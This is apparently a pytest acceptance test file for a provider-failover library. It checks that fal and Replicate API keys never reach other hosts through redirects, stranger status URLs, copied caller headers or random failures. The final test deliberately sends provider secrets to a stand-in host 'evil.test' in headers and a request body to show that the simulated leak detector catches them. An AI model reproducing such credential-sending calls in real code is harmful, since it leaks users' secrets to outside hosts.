"""No provider's key ever reaches a host that is not its provider's."""

from __future__ import annotations

import contextlib
import random
from typing import TYPE_CHECKING, Any

import fal_client
import httpx
import httpx2
import pytest
import requests

import failover
from acceptance import fal_calls, plain_calls, replicate_calls
from acceptance.stage import Stage, assert_nothing_wrong
from failover.sim.http1 import Reply

if TYPE_CHECKING:
    from failover.sim import World

CALLS = (*fal_calls.CALLS, *replicate_calls.CALLS, *plain_calls.CALLS)
EASY = tuple(call for call in CALLS if call.phase != "stream")
ROUNDS = 5
CALLS_A_ROUND = 30


def test_f54_a_file_at_fal_is_read_without_replicates_token(stage: Stage) -> None:
    stage.world.replicate.fail(503)
    with stage.installed():
        replicate_calls.run(stage)
    reads = [entry for entry in stage.world.fal.requests if entry.phase == "asset"]
    assert reads
    assert all("authorization" not in entry.headers for entry in reads)
    (event,) = {(e.provider, e.host) for e in stage.told("KeyWithheld")}
    assert event[0] == "replicate"
    assert event[1].endswith("fal.media")
    assert_nothing_wrong(stage)


def test_f54_the_sdk_alone_would_leak(stage: Stage) -> None:
    """The leak is real: with failover's own door closed for the read, the world sees it."""
    stage.world.replicate.fail(503)
    with stage.installed(), replicate_calls.client_of(stage) as client:
        (file,) = client.run(replicate_calls.MODEL, input=replicate_calls.INPUT)
        assert stage.world.leaks() == []
        with failover.paused():
            file.read()
    assert [(leak.owner, leak.where) for leak in stage.world.leaks()] == [("replicate", "head")]


def test_a_status_url_of_a_stranger_gets_no_key(stage: Stage) -> None:
    stranger = stage.world.host(
        "evil.test", lambda _: Reply.of_json(200, {"status": "COMPLETED", "logs": None})
    )
    urls = {f"{name}_url": f"https://evil.test/{name}" for name in ("status", "response", "cancel")}
    job = {"request_id": "4b2b5a5e-0000-4000-8000-000000000000", **urls}
    stage.world.fal.fail(200, body=job)
    with stage.installed(), fal_calls.client_of(stage) as client:
        handle = client.submit(fal_calls.APP, arguments=fal_calls.ARGUMENTS)
        handle.status()
    assert stranger.requests
    assert [str(leak) for leak in stage.world.leaks()] == []
    assert {event.host for event in stage.told("KeyWithheld")} == {"evil.test"}


@pytest.mark.parametrize("library", [httpx, requests], ids=lambda lib: lib.__name__)
def test_a_redirect_to_a_stranger_takes_no_key_along(stage: Stage, library: Any) -> None:
    stranger = stage.world.host("evil.test")
    stage.world.fal.fail(307, body=b"", headers={"Location": "https://evil.test/x"})
    options = {"follow_redirects": True} if library is httpx else {}
    with stage.installed():
        library.post(
            plain_calls.RUN_URL,
            json=fal_calls.ARGUMENTS,
            headers=plain_calls.fal_headers(stage),
            **options,
        )
    assert [str(leak) for leak in stage.world.leaks()] == []
    assert stage.world.replicate.requests == []
    assert len(stranger.requests) <= 1


def test_the_callers_headers_stay_at_home(stage: Stage) -> None:
    stage.world.fal.fail(503)
    headers = {
        **plain_calls.fal_headers(stage),
        "Cookie": "session=1",
        "X-Api-Key": "mine",
        "X-Trace": "abc",
        "User-Agent": "my-program/1",
    }
    with stage.installed():
        httpx.post(plain_calls.RUN_URL, json=fal_calls.ARGUMENTS, headers=headers)
    for entry in stage.world.replicate.requests:
        assert not {"cookie", "x-api-key", "x-trace"} & set(entry.headers)
        assert "my-program" not in entry.headers["user-agent"]
        assert entry.key == stage.key("replicate")
    assert stage.world.replicate.violations == []
    assert stage.world.leaks() == []


@pytest.mark.parametrize("seed", range(ROUNDS))
def test_no_key_goes_astray_in_chaos(stage: Stage, fast_retries: None, seed: int) -> None:
    """Whatever goes wrong, wherever it does, every key stays at home and every call ends."""
    dice = random.Random(seed)
    stage.world.fal.chaos(seed, 0.25)
    stage.world.replicate.chaos(seed + 1000, 0.25)
    stage.timeout = 1.0
    ended = 0
    with stage.installed():
        for _ in range(CALLS_A_ROUND):
            with contextlib.suppress(
                httpx.HTTPError,
                httpx2.HTTPError,
                requests.RequestException,
                fal_client.client.FalClientError,
                replicate_calls.replicate.exceptions.ReplicateException,
                ValueError,
                AssertionError,
            ):
                dice.choice(EASY).make(stage)
            ended += 1
    assert ended == CALLS_A_ROUND
    assert [str(leak) for leak in stage.world.leaks()] == []
    assert stage.world.violations == []
    assert stage.told("DefectFound") == []


def test_a_planted_leak_would_be_found(world: World) -> None:
    stranger = world.host("evil.test")
    fal, replicate = world.secrets["fal"][0], world.secrets["replicate"][0]
    httpx.get("https://evil.test/", headers={"Authorization": f"Key {fal}"})
    httpx.post("https://evil.test/", json={"token": replicate})
    httpx.get("https://api.replicate.com/v1/account", headers={"Authorization": f"Bearer {fal}"})
    httpx.get("https://v3.fal.media/files/x", headers={"Authorization": f"Bearer {replicate}"})
    assert [(leak.owner, leak.host, leak.where) for leak in world.leaks()] == [
        ("fal", "evil.test", "head"),
        ("replicate", "evil.test", "body"),
        ("fal", "api.replicate.com", "head"),
        ("replicate", "v3.fal.media", "head"),
    ]
    assert len(stranger.requests) == 2
    assert world.violations
